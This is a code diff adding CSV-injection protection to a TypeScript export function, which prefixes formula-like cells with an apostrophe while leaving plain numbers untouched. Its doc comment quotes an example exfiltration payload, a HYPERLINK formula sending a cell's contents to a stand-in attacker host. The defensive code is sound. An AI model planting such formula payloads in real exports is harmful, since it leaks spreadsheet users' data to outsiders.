@@ -22,7 +22,20 @@ export const CSV_COLUMNS = [
   'note',
 ] as const;
 
-export function csvField(v: string): string {
+/**
+ * A cell that a spreadsheet would run as a formula (it begins with `=`, `+`, `-`, `@`, a tab or a carriage
+ * return) gets a leading apostrophe, as OWASP's CSV-injection advice says, so a quote such as
+ * `=HYPERLINK("http://evil.example/?"&A2,"source")` shows as text. Plain numbers (`-12.5`, a western longitude)
+ * are left as they are: they cannot run.
+ */
+export function neutraliseFormula(v: string): string {
+  if (!/^[=+\-@\t\r]/.test(v)) return v;
+  if (/^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$/.test(v)) return v;
+  return `'${v}`;
+}
+
+export function csvField(raw: string): string {
+  const v = neutraliseFormula(raw);
   return /[",\r\n]/.test(v) ? `"${v.replace(/"/g, '""')}"` : v;
 }
 
